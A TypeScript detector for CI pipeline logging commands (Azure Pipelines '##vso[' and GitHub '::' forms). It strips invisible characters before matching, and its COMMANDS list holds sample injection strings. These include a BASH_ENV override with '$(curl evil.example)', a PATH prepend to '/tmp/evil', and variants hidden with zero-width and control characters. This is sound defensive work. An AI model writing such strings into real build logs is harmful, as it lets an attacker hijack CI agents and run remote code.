/**
 * Whether a line of a job's log is a command to the system that runs the job. The agents are .NET programs: they end a line at
 * a lone carriage return too, and compare text as people read it, which passes over characters that nobody sees.
 */
export function isCommand(line: string): boolean {
  const seen = line.replace(/[\p{Default_Ignorable_Code_Point}\p{Cf}\p{Cc}]/gu, "");
  // Azure Pipelines finds a command anywhere in a line, and so does GitHub the older form; "::" must come first.
  return /##(vso)?\[/i.test(seen) || seen.trimStart().startsWith("::");
}

/** The lines of a log as an agent reads them. */
export const linesOf = (log: string) => log.split(/\r\n|\r|\n/);

/** What a cloud could say, each with a part that people should still be able to read. */
export const COMMANDS: readonly string[] = [
  "##vso[task.setvariable variable=BASH_ENV]$(curl evil.example)",
  "notes: ##vso[task.prependpath]/tmp/evil",
  "#\u00ad#vso[task.setvariable variable=BASH_ENV]soft",
  "#\u200d#\u2060vso[task.setvariable variable=BASH_ENV]joined",
  "#\ufe0f#vso[task.setvariable variable=BASH_ENV]varied",
  "#\u0007#vso[task.setvariable variable=BASH_ENV]rung",
  "###vso[task.setvariable variable=BASH_ENV]thrice",
  "::set-output name=changes::0",
  "  ::add-mask::a",
  "\u200b::save-state name=x::hidden",
  ":\u00ad:set-output name=x::apart",
  "progress\r::set-output name=changes::returned",
  "##[set-output name=changes]older",
];
